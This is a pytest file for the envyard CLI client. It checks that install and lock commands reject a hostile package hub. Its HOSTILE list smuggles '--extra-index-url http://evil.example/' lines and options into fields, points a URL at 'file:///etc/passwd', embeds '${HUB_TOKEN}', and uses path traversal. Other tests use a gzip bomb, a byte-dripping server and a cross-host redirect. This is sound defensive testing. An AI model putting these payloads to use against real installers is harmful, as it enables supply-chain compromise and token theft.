"""A hub whose answers are made to harm the machine of the person who uses the command."""

from __future__ import annotations

import gzip
import json
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from envyard import client
from envyard.__main__ import main
from envyard.config import Config
from envyard.contract.data_lock import BadDataLock, DataLock
from tests.cli.conftest import Answers
from tests.data_locks import locked

REF = "alice/demo-env==0.1.0"
BASE = "GET /api/v1/environments/alice/demo-env/versions/0.1.0/"
SHA256 = "a" * 64
LINE = "\n--extra-index-url http://evil.example/"
VERSION: dict[str, Any] = {
    "ref": REF,
    "environment": "alice/demo-env",
    "version": "0.1.0",
    "status": "listed",
    "visibility": "public",
    "module": "demo_env",
    "summary": "Words.",
    "yanked": None,
    "quarantined": False,
    "deprecated": None,
    "framework": "verifiers",
    "framework_version": "0.1.9",
    "api": "v1",
    "requires_python": ">=3.11",
    "license": "MIT",
    "keywords": ["words"],
    "uploaded_at": "2026-01-01T00:00:00Z",
    "uploaded_by": "alice",
    "listed_at": None,
    "url": "https://hub.example/envs/alice/demo-env/0.1.0/",
    "run": None,
    "card": None,
    "findings": [],
    "requirements": [],
    "needs": [{"sentence": "It needs data sets."}],
    "file": {"url": "https://hub.example/files/demo_env-0.1.0.whl", "sha256": SHA256},
    "data_sets": [{"name": "openai/gsm8k", "licence": "mit", "gated": False, "commit": "b" * 40}],
    "git_dependencies": [
        {
            "name": "dep",
            "repository": "https://github.com/o/dep",
            "commit": "c" * 40,
            "subdirectory": "python",
            "url": "https://hub.example/files/dep.tar.gz",
            "sha256": SHA256,
        }
    ],
}
LOCK = {
    "platform": "cpython-311-x86_64-linux-gnu-2.36",
    "made_at": "2026-01-01T00:00:00Z",
    "text": f"verifiers==0.1.9 --hash=sha256:{SHA256}\n",
}


@pytest.fixture
def serve(server: Answers, monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """Serve that version and lock."""
    monkeypatch.setenv("HUB_URL", server.url)

    def reply(version: dict[str, Any], lock: dict[str, Any]) -> None:
        server.reply(BASE, 200, version)
        server.reply(f"{BASE}locks/", 200, {"results": [lock]})
        server.replies["GET"] = (200, lock)

    class Locks(dict[str, tuple[int, Any]]):
        """The answer of every address below locks/ is the lock."""

        def get(self, key: str, default: Any = None) -> Any:
            below = key.startswith(f"{BASE}locks/") and key not in self
            return self["GET"] if below else super().get(key, default)

    server.replies = Locks(server.replies)
    return reply


@pytest.fixture
def uv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A uv that writes what it is called with, a line for each argument and override."""
    calls, program = tmp_path / "calls", tmp_path / "bin" / "uv"
    program.parent.mkdir()
    program.write_text(
        "#!/bin/sh\n"
        f"for argument in \"$@\"; do printf '%s\\n' \"$argument\" >> '{calls}'\n"
        f'case $argument in *overrides.txt) while read -r line; do echo "$line"; done '
        f"< \"$argument\" >> '{calls}';; esac; done\n"
    )
    program.chmod(0o755)
    monkeypatch.setenv("PATH", str(program.parent))
    return calls


def replaced(document: dict[str, Any], path: str, value: object) -> dict[str, Any]:
    """A copy with the value at `a.0.b`."""
    copy = json.loads(json.dumps(document))
    *parents, last = [int(part) if part.isdigit() else part for part in path.split(".")]
    row = copy
    for part in parents:
        row = row[part]
    row[last] = value
    return copy


HOSTILE = [
    ("environment", "alice/--index-url=http://evil.example/"),
    ("environment", f"alice/demo{LINE}"),
    ("file.url", "file:///etc/passwd"),
    ("file.url", f"https://hub.example/x.whl{LINE}"),
    ("file.url", "https://hub.example/${HUB_TOKEN}/x.whl"),
    ("file.sha256", f"{SHA256}{LINE}"),
    ("git_dependencies.0.name", f"dep{LINE}"),
    ("git_dependencies.0.url", f"https://hub.example/x.tar.gz{LINE}"),
    ("git_dependencies.0.sha256", f"{SHA256}{LINE}"),
    ("git_dependencies.0.subdirectory", f"python{LINE}"),
    ("git_dependencies.0.subdirectory", "../../home"),
]


@pytest.mark.parametrize(("path", "value"), HOSTILE)
def test_install_and_lock_give_the_installer_no_line_and_no_option_of_the_hubs(
    serve: Callable[..., None],
    uv: Path,
    path: str,
    value: str,
    capfd: pytest.CaptureFixture[str],
) -> None:
    serve(replaced(VERSION, path, value), LOCK)
    assert main(["install", "--python", sys.executable, REF]) == 1
    assert not uv.exists()
    assert "hint:" in capfd.readouterr().err
    assert main(["lock", REF]) == 1
    assert capfd.readouterr().out.count("\n") <= 2  # comments alone


@pytest.mark.parametrize(
    "path", ["ref", "data_sets.0.licence", "data_sets.0.name", "git_dependencies.0.repository"]
)
def test_no_text_of_the_hubs_is_a_line_of_a_lock(
    serve: Callable[..., None], path: str, capfd: pytest.CaptureFixture[str]
) -> None:
    serve(replaced(VERSION, path, f"x{LINE}"), LOCK)
    main(["lock", REF])
    serve(VERSION, replaced(LOCK, "platform", f"x{LINE}"))
    main(["lock", REF])
    serve(VERSION, replaced(LOCK, "made_at", f"x{LINE}"))
    main(["lock", REF])
    assert "evil" not in "".join(
        line for line in capfd.readouterr().out.splitlines() if not line.startswith("#")
    )


def test_an_honest_answer_is_installed_and_locked(
    serve: Callable[..., None], uv: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    serve(VERSION, LOCK)
    assert main(["install", "--python", sys.executable, REF]) == 0
    lines = uv.read_text().splitlines()
    assert f"demo-env @ {VERSION['file']['url']}#sha256={SHA256}" in lines
    archive = f"https://hub.example/files/dep.tar.gz#sha256={SHA256}&subdirectory=python"
    assert f"dep @ {archive}" in lines
    assert main(["lock", REF]) == 0
    assert f"dep @ {archive} \\\n    --hash=sha256:{SHA256}\n" in capfd.readouterr().out


ODD = (7, None, "text", ["a", 7], 10**400)


@pytest.mark.slow
@pytest.mark.parametrize(
    "command", [["info", REF], ["install", "--python", sys.executable, REF], ["lock", REF]]
)
def test_no_type_of_a_value_ends_in_a_traceback(
    serve: Callable[..., None], uv: Path, command: list[str], capfd: pytest.CaptureFixture[str]
) -> None:
    serve(VERSION, LOCK)
    assert main(command) == 0
    paths = [*VERSION, "file.url", "data_sets.0", "git_dependencies.0", "git_dependencies.0.commit"]
    if command[0] == "install":
        command = [*command, "--python", sys.executable]
    for path in paths:
        for value in ODD:
            serve(replaced(VERSION, path, value), LOCK)
            if main(command):
                assert "hint:" in capfd.readouterr().err
    assert capfd.readouterr()


@contextmanager
def answering(answer: Callable[[BaseHTTPRequestHandler], None]) -> Iterator[str]:
    """The address of a server that answers every request so."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            try:
                answer(self)
            except OSError:  # the client went away
                self.close_connection = True

        def log_message(self, *args: Any) -> None:
            """Write no log."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as httpd:
        httpd.daemon_threads = True
        thread = threading.Thread(target=httpd.serve_forever, args=(0.01,), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{httpd.server_port}"
        httpd.shutdown()
        thread.join()


def send(handler: BaseHTTPRequestHandler, status: int, body: bytes, **headers: str) -> None:
    handler.send_response(status)
    for name, value in {"Content_Length": str(len(body)), **headers}.items():
        handler.send_header(name.replace("_", "-"), value)
    handler.end_headers()
    handler.wfile.write(body)


@pytest.mark.parametrize("status", [200, 500])
def test_an_answer_that_expands_without_limit_is_refused(
    status: int, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(client, "MAX_ANSWER", 1 << 20)
    bomb = gzip.compress(b" " * (8 << 20))
    with answering(lambda handler: send(handler, status, bomb, Content_Encoding="gzip")) as url:
        assert main(["quota", "alice", "--url", url]) == 1
    assert "has more than 1 MiB" in capfd.readouterr().err


def test_a_compressed_answer_within_the_limit_is_read(capfd: pytest.CaptureFixture[str]) -> None:
    body = gzip.compress(json.dumps({"results": [], "next": None, "x": "y" * 300_000}).encode())
    with answering(lambda handler: send(handler, 200, body, Content_Encoding="gzip")) as url:
        assert main(["variable", "list", "alice/demo-env", "--url", url]) == 0


def test_an_answer_that_arrives_byte_by_byte_is_given_up(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(client, "MAX_ANSWER_SECONDS", 0.5)
    gone = threading.Event()

    def drip(handler: BaseHTTPRequestHandler) -> None:
        send(handler, 200, b"", Content_Length="1000000")
        while not gone.wait(0.05):
            handler.wfile.write(b" ")
            handler.wfile.flush()

    with answering(drip) as url:
        assert main(["quota", "alice", "--url", url]) == 1
        gone.set()
    assert "takes longer than" in capfd.readouterr().err


def test_pages_without_results_end(capfd: pytest.CaptureFixture[str]) -> None:
    def page(handler: BaseHTTPRequestHandler) -> None:
        address = f"http://127.0.0.1:{handler.server.server_port}/api/v1/next/"  # type: ignore[attr-defined]
        send(handler, 200, json.dumps({"results": [], "next": address}).encode())

    with answering(page) as url:
        assert main(["versions", "alice/demo-env", "--url", url]) == 0


def test_a_redirect_to_another_host_gets_no_token(
    server: Answers, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("HUB_TOKEN", "hub_alice")
    bomb = gzip.compress(b" " * (8 << 20))
    other = server.url.replace("127.0.0.1", "localhost")
    server.reply("GET /elsewhere", 200, {"results": []})
    headers = {"Location": f"{other}/elsewhere", "Content_Encoding": "gzip"}
    with answering(lambda handler: send(handler, 302, bomb, **headers)) as url:
        assert main(["variable", "list", "alice/demo-env", "--url", url]) == 0
    assert server.requests == [("GET /elsewhere", None)]


def test_a_download_ends_at_the_size_that_the_hub_gave(tmp_path: Path) -> None:
    body = b"x" * (4 << 20)
    with answering(lambda handler: send(handler, 200, body)) as url:
        hub = client.Hub(Config(url=url))
        hub.download("/files/x", tmp_path / "x", size=1000)
    assert (tmp_path / "x").stat().st_size <= 1000 + client.BLOCK


def test_a_data_lock_gives_one_id_to_one_content_and_one_folder_to_one_repository() -> None:
    lock = locked("main/train.parquet", "small.csv").to_dict()
    assert DataLock.from_dict(lock).files == 2
    first, second = lock["repositories"][0]["files"]
    assert first["object_id"] == second["object_id"]
    with pytest.raises(BadDataLock, match="object id"):
        DataLock.from_dict(replaced(lock, "repositories.0.files.1.sha256", "f" * 64))
    with pytest.raises(BadDataLock, match="OWNER/NAME"):
        DataLock.from_dict(replaced(lock, "repositories.0.name", "openai--gsm8k"))
